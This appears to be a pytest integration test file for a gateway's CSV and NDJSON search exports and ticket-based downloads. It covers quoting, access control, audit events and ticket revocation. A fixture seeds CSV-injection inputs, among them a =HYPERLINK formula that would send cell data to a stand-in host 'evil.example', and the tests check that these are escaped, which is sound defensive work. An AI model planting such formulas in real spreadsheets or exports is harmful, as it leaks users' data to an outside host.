"""``Accept: text/csv``, and downloads by a ticket, on the real servers."""

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from django.test import Client
from elasticsearch.helpers import bulk
from pytest_django import Settings

from gateway.identity.models import DeniedToken, User
from gateway.identity.tickets import issue_ticket
from tests.support.gateway import (
    INDEX,
    MANY_DOCUMENTS,
    FindEvent,
    FindEvents,
    Search,
    configure,
    elasticsearch_client,
    open_contexts,
)
from tests.support.problems import is_problem

CSV = {"Accept": "text/csv"}
HOSTILE = "hostile-cells"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'

Download = Callable[..., Any]


@pytest.fixture
def hostile(stack: Settings) -> Iterator[str]:
    """The name of an index of values, and of a field, that are formulas or look like the end of a record."""
    configure(stack, search_indices=(INDEX, HOSTILE))
    client = elasticsearch_client()
    keyword = {"type": "keyword"}
    parts = {"type": "nested", "properties": {"name": keyword}}
    client.indices.create(
        index=HOSTILE,
        mappings={
            "properties": {
                "Name": keyword | {"fields": {"raw": keyword}},
                "Also": {"type": "alias", "path": "Name"},
                "Size": {"type": "long"},
                "OS": {"properties": {"Type": keyword}},
                "Parts": parts,
                "=cmd()": keyword,
            }
        },
    )
    documents: list[dict[str, Any]] = [
        {"Name": FORMULA, "Size": -5, "OS": {"Type": 'a "b",\r\nc'}, "=cmd()": "@x"},
        {"Name": ["x", "=y"], "Size": 2**63 - 1, "OS.Type": "dotted", "Parts": [{"name": "p"}, {"name": "q"}]},
        {"OS": None},
    ]
    bulk(client, [{"_index": HOSTILE, "_id": n, **each} for n, each in enumerate(documents)], refresh=True)
    yield HOSTILE
    client.indices.delete(index=HOSTILE)


@pytest.fixture
def download(stack: Settings, client: Client) -> Iterator[Download]:
    """``GET /downloads/{ticket}`` with a new ticket of octoAdmin's; each is closed in the end."""
    del stack
    answers = []

    def get(file_type: str = "csv", session: str = "", **search: Any) -> Any:
        data = {"search": {"query": "", **search}, "format": file_type}
        user = User.objects.get(username="octoAdmin")
        text = issue_ticket("download", user, datetime.now(UTC), timedelta(seconds=30), session=session, data=data)
        answers.append(client.get(f"/downloads/{text}"))
        answers.append(client.get(f"/downloads/{text}"))
        assert answers[-1].status_code == 401
        return answers[-2]

    yield get
    for answer in answers:
        answer.close()


def _text(response: Any) -> str:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content).decode()


def _records(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_text(response), newline="")))


def test_every_document_is_a_record_in_the_order_that_was_asked_for(search: Search, many: str) -> None:
    before = open_contexts()
    answer = search("", index=many, sort=["-Hostname"], fields=["Site", "Hostname"], headers=CSV)
    header, *records = _records(answer)
    assert header == ["Site", "Hostname"]
    assert records == [[f"{n}"[-1], f"h{n:05}"] for n in reversed(range(MANY_DOCUMENTS))]
    answer.close()
    assert open_contexts() == before


def test_records_are_written_as_rfc_4180_has_them_and_hold_no_formula(search: Search, hostile: str) -> None:
    names = ["Name", "Size", "OS.Type", "Parts", "=cmd()"]
    text = _text(search("", index=hostile, fields=names, headers=CSV))
    assert text == (
        "Name,Size,OS.Type,Parts,'=cmd()\r\n"
        '"\'=HYPERLINK(""http://evil.example?""&A1)",-5,"a ""b"",\r\nc",,\'@x\r\n'
        '"[""x"",""=y""]",9223372036854775807,dotted,"[{""name"":""p""},{""name"":""q""}]",\r\n'
        ",,,,\r\n"
    )


def test_without_fields_there_is_a_column_for_each_field_with_values(search: Search, hostile: str) -> None:
    header, *_ = _records(search("", index=hostile, headers=CSV))
    assert sorted(header) == sorted(["Name", "Size", "OS.Type", "Parts", "'=cmd()"])


def test_an_object_is_one_column_of_json(search: Search) -> None:
    _, record = _records(search("Hostname = octoxlabs01", fields=["Hostname", "OS"], headers=CSV))
    assert record[0] == "octoxlabs01"
    assert orjson.loads(record[1])["Type"]


def test_a_rejected_query_is_a_problem_and_no_file(search: Search, download: Download) -> None:
    assert is_problem(search("Hostnme = a", headers=CSV), 400, "unknown_field")
    assert is_problem(search("", size=3, headers=CSV), 400, "malformed")
    assert is_problem(download(query="Hostnme = a"), 400, "unknown_field")
    assert is_problem(download(size=3), 400, "malformed")


def test_a_page_is_preferred_where_accept_says_so(search: Search) -> None:
    answer = search("Hostname = octoxlabs01", headers={"Accept": "text/csv;q=0.5, application/json"})
    assert answer.json()["count"] == 1


def test_a_download_is_a_file_whose_search_is_recorded_first(download: Download, find_event: FindEvent) -> None:
    answer = download(query="Hostname = octoxlabs*", fields=["Hostname"], sort=["Hostname"])
    event = find_event(answer["X-Query-ID"])
    assert event is not None
    assert (event["event_type"], event["user_id"], event["metadata"]["auth_scheme"]) == (
        "query.executed",
        "octoAdmin",
        "ticket",
    )
    assert event["data"]["query"] == "Hostname = octoxlabs*"
    assert answer["Content-Disposition"] == f'attachment; filename="{INDEX}.csv"'
    assert answer["Cache-Control"] == "no-store"
    assert _records(answer) == [["Hostname"], *([f"octoxlabs{n:02}"] for n in range(1, 13))]


def test_a_download_as_ndjson_is_the_stream(download: Download) -> None:
    answer = download("ndjson", query="Hostname = octoxlabs01", fields=["Hostname"])
    assert answer["Content-Type"] == "application/x-ndjson"
    assert answer["Content-Disposition"] == f'attachment; filename="{INDEX}.ndjson"'
    assert b"".join(answer.streaming_content) == b'{"Hostname":"octoxlabs01"}\n'


def test_a_download_is_of_what_its_user_may_search(
    stack: Settings, download: Download, find_events: FindEvents
) -> None:
    User.objects.filter(username="octoAdmin").update(granted_indices=["not-there"])
    configure(stack, search_indices=(INDEX, "not-there"))
    answer = download(index=INDEX)
    assert is_problem(answer, 403, "forbidden")
    (event,) = find_events(answer["X-Request-ID"])
    assert (event["event_type"], event["user_id"]) == ("query.denied", "octoAdmin")


def test_a_download_ends_with_the_log_in_of_its_ticket(download: Download, many: str) -> None:
    answer = download(session="s" * 32, index=many, fields=["Hostname"])
    parts = iter(answer.streaming_content)
    next(parts)
    DeniedToken.objects.create(identifier="s" * 32, expires_at=datetime.now(UTC) + timedelta(hours=1))
    *_, last = csv.reader(io.StringIO(b"".join(parts).decode(), newline=""))
    assert orjson.loads(last[0])["problem"]["code"] == "unauthenticated"


@pytest.mark.parametrize("ticket", ["x", "x" * 3000, "%00"])
def test_a_ticket_that_is_none_is_refused(ticket: str, stack: Settings, client: Client) -> None:
    del stack
    assert is_problem(client.get(f"/downloads/{ticket}"), 401, "unauthenticated")
